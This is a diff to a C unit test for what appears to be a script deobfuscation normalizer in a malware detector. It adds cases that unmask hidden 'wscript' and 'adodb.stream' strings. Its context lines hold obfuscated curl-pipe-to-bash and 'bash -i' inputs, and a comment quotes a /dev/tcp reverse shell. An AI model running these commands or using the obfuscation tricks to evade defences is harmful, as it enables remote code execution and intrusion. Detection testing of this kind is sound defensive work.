@@ -62,6 +62,10 @@ static void test_wsh_and_shell(void **state)
         expect_norm("x = 'a-b-c'.split('-').reverse().join('+')", "x = 'c+b+a'");
         expect_norm("x = 'ADzzODB.StzzrezzAm'.replace(/zz/g, '')", "x = 'adodb.stream'");
         expect_norm("x = 'a'+'b'.replace(/./g, '')", "x = 'ab'.replace(/./g, '')");
+        expect_norm("x = 'WxSzcxrzipt'.replace(/[xz]/g, '')", "x = 'wscript'");
+        expect_norm("x = ['ADO','DB.St','ream'].join('')", "x = \"adodb.stream\"");
+        expect_norm("WScript[\"CreateObject\"]('x')", "wscript.createobject('x')");
+        expect_norm("a[0] + b['x y'] + c[\"k\"]", "a[0] + b['x y'] + c.k");
         expect_norm("c'ur'l -s x | b\"as\"h", "curl -s x | bash");
         expect_norm("$'\\x62\\x61sh' -i", "bash -i");
         /* "bash -i >& /dev/tcp/192.0.2.1/9 0>&1" */
